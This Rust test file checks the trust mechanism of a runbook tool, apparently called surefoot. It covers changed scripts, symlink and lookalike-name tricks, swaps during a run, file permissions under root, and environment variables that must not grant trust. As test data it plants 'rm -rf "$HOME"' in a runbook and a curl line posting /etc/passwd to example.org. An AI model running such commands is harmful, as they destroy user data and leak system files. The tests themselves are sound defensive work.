//! Ways around trust that must lead nowhere: content that was not looked at, under a name, in a
//! place or at a moment at which it could pass for content that was.

use std::fs;
use std::os::unix::fs::{PermissionsExt, chown, symlink};
use std::path::Path;

use crate::READS;
use crate::pty::Session;
use crate::sandbox::{PROGRAM, Sandbox};

/// A runbook that runs a script, uses another runbook, and stands in a repository.
fn repository() -> Sandbox {
    let sandbox = Sandbox::new();
    let book = READS
        .replace("run: echo one", "run: sh {{files.fix}}\n    files: { fix: { from: ../fix.sh } }")
        .replace("  - end: done", "  - use: { file: used.yaml }\n  - end: done");
    sandbox.file("ops/runbooks/book.yaml", book);
    sandbox.file("ops/runbooks/used.yaml", READS.replace("echo one", "echo used"));
    sandbox.file("ops/fix.sh", "echo fixed\n");
    fs::create_dir(sandbox.path("ops/.git")).unwrap();
    sandbox
}

const BOOK: &str = "ops/runbooks/book.yaml";

fn run(sandbox: &Sandbox, runbook: &str) -> i32 {
    sandbox.surefoot(&["run", runbook]).run().code()
}

fn mode(path: &Path, mode: u32) {
    fs::set_permissions(path, PermissionsExt::from_mode(mode)).unwrap();
}

#[test]
fn trust_is_given_to_all_that_a_runbook_consists_of_and_to_nothing_else() {
    let sandbox = repository();
    sandbox.trust(BOOK);
    assert_eq!(run(&sandbox, BOOK), 0);
    let refused = |what: &str| assert_eq!(run(&sandbox, BOOK), 8, "{what}");
    let fix = sandbox.path("ops/fix.sh");

    sandbox.file("ops/runbooks/used.yaml", READS.replace("echo one", "echo other"));
    refused("a used runbook is changed");
    sandbox.file("ops/runbooks/used.yaml", READS.replace("echo one", "echo used"));
    sandbox.file("ops/fix.sh", "echo broken\n");
    refused("a script is changed");
    sandbox.file("ops/fix.sh", "echo fixed\n");
    mode(&fix, 0o755);
    refused("a script becomes a program");
    mode(&fix, 0o644);
    sandbox.file("ops/other.sh", "echo broken\n");
    fs::remove_file(&fix).unwrap();
    symlink("other.sh", &fix).unwrap();
    refused("a script becomes a link to another");
    fs::remove_file(&fix).unwrap();
    sandbox.file("ops/fix.sh", "echo fixed\n");
    assert_eq!(run(&sandbox, BOOK), 0, "all is as it was");

    // Files that it does not use are none of its own.
    sandbox.file("ops/unused.sh", "echo x\n").file("ops/runbooks/unused.yaml", READS);
    assert_eq!(run(&sandbox, BOOK), 0);
}

#[test]
fn what_lies_beside_trusted_content_is_not_trusted() {
    let sandbox = repository();
    sandbox.trust(BOOK);
    let other = format!("{}id: book\n", READS.replace("echo one", "echo other"));
    for sibling in [
        "ops/runbooks/book.yaml.yaml",
        "ops/runbooks/book.yaml2/book.yaml",
        "ops/runbooks/Book.yaml",
        "ops/runbooks/book/book.yaml",
        "ops2/runbooks/book.yaml",
        "ops/runbooks/book\u{200b}.yaml",
    ] {
        sandbox.file(sibling, &other);
        assert_eq!(run(&sandbox, sibling), 8, "{sibling}");
    }
    for way in ["ops/../ops2/runbooks/book.yaml", "ops/runbooks/./../runbooks/Book.yaml"] {
        assert_eq!(run(&sandbox, way), 8, "{way}");
    }
    // Another way to the same content is no other content.
    for way in ["ops/runbooks/../runbooks/book.yaml", "./ops//runbooks/book.yaml"] {
        assert_eq!(run(&sandbox, way), 0, "{way}");
    }
    symlink("ops/runbooks/book.yaml", sandbox.path("link.yaml")).unwrap();
    assert_eq!(run(&sandbox, "link.yaml"), 0);
    fs::remove_file(sandbox.path("link.yaml")).unwrap();
    symlink("ops2/runbooks/book.yaml", sandbox.path("link.yaml")).unwrap();
    assert_eq!(run(&sandbox, "link.yaml"), 8);
}

#[test]
fn a_name_that_could_pass_for_two_files_is_refused() {
    let sandbox = repository();
    for name in ["bo\nok", "bo\u{1b}[2Kok", "bo\rok"] {
        let path = format!("ops/{name}/book.yaml");
        sandbox.file(&path, READS);
        let outcome = sandbox.surefoot(&["trust", "--print", &path]).run();
        assert_eq!(outcome.code(), 3, "{}", outcome.text());
        assert!(outcome.stderr.contains("control character"), "{}", outcome.text());
        assert!(!outcome.stderr.contains(['\u{1b}', '\r']), "{:?}", outcome.stderr);
    }
}

#[test]
fn a_submodule_and_a_nested_repository_are_content_like_any_other() {
    let sandbox = repository();
    let inner = READS.replace("echo one", "echo inner");
    sandbox.file("ops/inner/runbooks/book.yaml", &inner).file("ops/inner/.git", "gitdir: ../x\n");
    let book = READS
        .replace("  - end: done", "  - use: { file: ../inner/runbooks/book.yaml }\n  - end: done");
    sandbox.file("ops/runbooks/outer.yaml", book);
    let outer = "ops/runbooks/outer.yaml";
    sandbox.trust(outer);
    assert_eq!(run(&sandbox, outer), 0);
    assert_eq!(run(&sandbox, "ops/inner/runbooks/book.yaml"), 8, "by itself it was not looked at");
    sandbox.file("ops/inner/runbooks/book.yaml", inner.replace("inner", "other"));
    assert_eq!(run(&sandbox, outer), 8);
}

#[test]
fn what_runs_is_what_was_read_when_the_run_began() {
    let sandbox = repository();
    let fix = sandbox.path("ops/fix.sh").display().to_string();
    let book = READS
        .replace("run: echo one", &format!("run: echo 'touch \"$HOME/swapped\"' >{fix}"))
        .replace("run: echo two", "run: sh {{files.fix}}\n    files: { fix: { from: ../fix.sh } }");
    sandbox.file("ops/runbooks/swap.yaml", book);
    sandbox.trust("ops/runbooks/swap.yaml");
    assert_eq!(run(&sandbox, "ops/runbooks/swap.yaml"), 0);
    assert!(sandbox.read("ops/fix.sh").contains("swapped"), "the script was swapped");
    assert!(!sandbox.root().join("home/swapped").exists(), "what was put in its place has run");
    assert_eq!(run(&sandbox, "ops/runbooks/swap.yaml"), 8);
}

/// A person at the trust question.
fn question(sandbox: &Sandbox, runbook: &str) -> Session {
    let env = sandbox.environment();
    let env: Vec<(&str, &str)> =
        env.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect();
    let path = sandbox.path(runbook).display().to_string();
    Session::start(PROGRAM, &["trust", &path], &env, 100)
}

#[test]
fn what_is_trusted_is_what_was_shown() {
    let sandbox = repository();
    let mut session = question(&sandbox, BOOK);
    session.wait_for("Trust this content? y or n: ");
    // Somebody changes it while it is looked at.
    sandbox.file("ops/fix.sh", "echo broken\n");
    session.send("y\r");
    session.wait_for("Trusted ");
    assert_eq!(session.wait().code(), Some(0));
    assert_eq!(run(&sandbox, BOOK), 8);
    sandbox.file("ops/fix.sh", "echo fixed\n");
    assert_eq!(run(&sandbox, BOOK), 0);
}

#[test]
fn a_change_is_told_command_by_command() {
    let sandbox = repository();
    sandbox.trust(BOOK);
    let used = READS.replace("echo one", "rm -rf \"$HOME\"").replacen("read", "change", 1);
    sandbox.file(
        "ops/runbooks/used.yaml",
        used.replace("change\n    run", "change\n    undo: echo back\n    run"),
    );
    sandbox.file("ops/fix.sh", "echo fixed\ncurl -d @/etc/passwd example.org\n");
    let refused = sandbox.surefoot(&["run", BOOK]).run();
    assert_eq!(refused.code(), 8);
    let words =
        "changed since it was trusted just now (1 command added, 1 command altered, 2 files)";
    assert!(refused.stderr.contains(words), "{}", refused.text());

    let mut session = question(&sandbox, BOOK);
    session.wait_for("1 command added, 1 command altered, 2 files");
    session.wait_for("d what changed: ");
    session.send("d\r");
    for line in [
        "altered  main.3.first  [change]",
        "- effect: read",
        "-   echo used",
        "+ effect: change",
        "+   rm -rf \"$HOME\"",
        "added    main.3.first: undo  [change]",
        "+   echo back",
        "file     fix.sh: 1 line more, 0 lines less",
        "+ curl -d @/etc/passwd example.org",
        "d what changed: ",
    ] {
        session.wait_for(line);
    }
    session.send("no\r");
    session.wait_for("Not trusted.");
    assert_eq!(session.wait().code(), Some(8));
    assert_eq!(run(&sandbox, BOOK), 8);
}

#[test]
fn what_is_trusted_is_listed_and_taken_back() {
    let sandbox = repository();
    sandbox.surefoot(&["trust", "--list"]).check(
        r"
        exit 0
        --- stdout
        Nothing is trusted here yet.
    ",
    );
    sandbox.trust(BOOK);
    let first = sandbox.digest(BOOK);
    sandbox.file("ops/fix.sh", "echo better\n");
    sandbox.trust(BOOK);
    sandbox.file("other.yaml", READS);
    sandbox.trust("other.yaml");
    let list = || {
        let json = sandbox.surefoot(&["trust", "--list", "--format", "json"]).run().stdout;
        let rows: Vec<serde_json::Value> = serde_json::from_str(&json).unwrap();
        rows.iter().map(|row| row["runbook"].as_str().unwrap().to_owned()).collect::<Vec<_>>()
    };
    let mut runbooks = list();
    runbooks.sort();
    assert_eq!(runbooks, ["shop/book", "shop/book", "shop/other"]);
    let text = sandbox.surefoot(&["trust", "--list"]).run().stdout;
    assert!(text.contains(&first[..12]) && text.contains("just now"), "{text}");

    let remove = |what: &str| sandbox.surefoot(&["trust", "--remove", what]).run();
    assert_eq!(remove(&first[..7]).code(), 2, "too short for a digest");
    assert_eq!(remove(&first[..12]).code(), 0);
    assert_eq!(list().len(), 2);
    assert_eq!(run(&sandbox, BOOK), 0, "later content is trusted still");
    assert_eq!(remove(BOOK).code(), 0);
    assert_eq!(run(&sandbox, BOOK), 8);
    assert_eq!(list(), ["shop/other"]);
    assert_eq!(remove("shop/other").code(), 0);
    assert_eq!(remove("shop/other").code(), 2);
    for file in sandbox.state_files() {
        assert!(!file.0.starts_with(sandbox.state().join("trust")), "{}", file.0.display());
    }
}

#[test]
fn trust_is_kept_where_nobody_else_can_read_or_write() {
    let sandbox = repository();
    sandbox
        .surefoot(&["trust", "--digest", &sandbox.digest(BOOK), BOOK])
        .under(&["sh", "-c", "umask 0; exec \"$@\"", "sh"])
        .run();
    let store = sandbox.state().join("trust");
    let bits = |path: &Path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!(bits(&store), 0o700);
    for entry in fs::read_dir(&store).unwrap().flatten() {
        assert_eq!(bits(&entry.path()), 0o600, "{}", entry.path().display());
    }
    assert_eq!(run(&sandbox, BOOK), 0);
    mode(&store, 0o777);
    let refused = sandbox.surefoot(&["run", BOOK]).run();
    assert_eq!(refused.code(), 8, "{}", refused.text());
    assert!(refused.stderr.contains("others"), "{}", refused.text());
}

#[test]
fn as_root_nothing_is_followed_that_others_can_write() {
    if !rustix::process::geteuid().is_root() {
        eprintln!("skipped: only root can give files away");
        return;
    }
    let sandbox = repository();
    sandbox.trust(BOOK);
    assert_eq!(run(&sandbox, BOOK), 0);
    for (name, usual) in [
        ("ops/runbooks/book.yaml", 0o644),
        ("ops/runbooks/used.yaml", 0o644),
        ("ops/fix.sh", 0o644),
        ("ops/runbooks", 0o755),
        ("ops", 0o755),
    ] {
        let path = sandbox.path(name);
        let refused = |what: &str| {
            for command in ["run", "trust"] {
                let outcome = sandbox.surefoot(&[command, BOOK]).run();
                assert_eq!(outcome.code(), 8, "{name} {what}: {}", outcome.text());
                assert!(outcome.stderr.contains("as root"), "{name} {what}: {}", outcome.text());
            }
        };
        mode(&path, usual | 0o002);
        refused("open to all");
        mode(&path, usual | 0o020);
        refused("open to a group");
        mode(&path, usual);
        chown(&path, Some(65_534), None).unwrap();
        refused("of another user");
        chown(&path, Some(0), None).unwrap();
        assert_eq!(run(&sandbox, BOOK), 0, "{name} is as it was");
    }
    let store = sandbox.state().join("trust");
    chown(&store, Some(65_534), None).unwrap();
    assert_eq!(run(&sandbox, BOOK), 8);
    chown(&store, Some(0), None).unwrap();
    // One that is not there yet could be put there by somebody else.
    fs::remove_dir_all(&store).unwrap();
    let state = sandbox.root().join("state");
    chown(&state, Some(65_534), None).unwrap();
    let outcome = sandbox.surefoot(&["run", BOOK]).run();
    assert!(outcome.stderr.contains("as root"), "{}", outcome.text());
    chown(&state, Some(0), None).unwrap();
    // Reading is not following.
    mode(&sandbox.path("ops"), 0o777);
    for command in ["check", "show", "plan"] {
        assert_eq!(sandbox.surefoot(&[command, BOOK]).run().code(), 0, "{command}");
    }
}

#[test]
fn neither_a_service_that_builds_nor_the_environment_is_somebody_who_looked() {
    let sandbox = repository();
    for (name, value) in [
        ("CI", "true"),
        ("GITHUB_ACTIONS", "true"),
        ("SUREFOOT_TRUST", "1"),
        ("SUREFOOT_YES", "change"),
        ("SUDO_UID", "0"),
    ] {
        let call = sandbox.surefoot(&["run", BOOK, "--yes", "change"]).env(name, value);
        assert_eq!(call.stdin("y\ny\n").run().code(), 8, "{name}");
    }
    let homeless = sandbox.surefoot(&["run", BOOK]).without("HOME").without("XDG_STATE_HOME").run();
    assert_eq!(homeless.code(), 7, "{}", homeless.text());
}

#[test]
fn the_same_bytes_get_the_same_verdict_and_digest_anywhere() {
    let sandbox = repository();
    sandbox.file("ops/runbooks/bad.yaml", READS.replace("title: Look", "titel: Look"));
    let read_only = sandbox.root().join("read-only");
    fs::create_dir(&read_only).unwrap();
    mode(&read_only, 0o555);
    let paths = [BOOK, "ops/runbooks/bad.yaml"].map(|name| sandbox.path(name));
    let [good, bad] = paths.each_ref().map(|path| path.to_str().unwrap());
    let all = |set: &dyn Fn(crate::sandbox::Call<'_>) -> String| {
        let verdict = set(sandbox.surefoot(&["check", "--format", "json", good, bad]));
        let digest = set(sandbox.surefoot(&["trust", "--print", good]));
        (verdict, digest)
    };
    let usual = all(&|call| call.run().stdout);
    assert!(usual.0.contains("titel") && usual.1.len() > 64, "{usual:?}");
    let cd = format!("cd {} && exec \"$@\"", read_only.display());
    assert_eq!(all(&|call| call.env("LC_ALL", "C").run().stdout), usual);
    assert_eq!(all(&|call| call.env("LC_ALL", "tr_TR.UTF-8").run().stdout), usual);
    assert_eq!(all(&|call| call.without("HOME").without("XDG_STATE_HOME").run().stdout), usual);
    assert_eq!(all(&|call| call.without("TERM").env("TZ", "Asia/Tokyo").run().stdout), usual);
    assert_eq!(all(&|call| call.under(&["sh", "-c", &cd, "sh"]).run().stdout), usual);
    // Another clone, with other times, in another order on the disk.
    let copy = repository();
    assert_eq!(copy.digest(BOOK), usual.1.split_whitespace().next().unwrap());
}
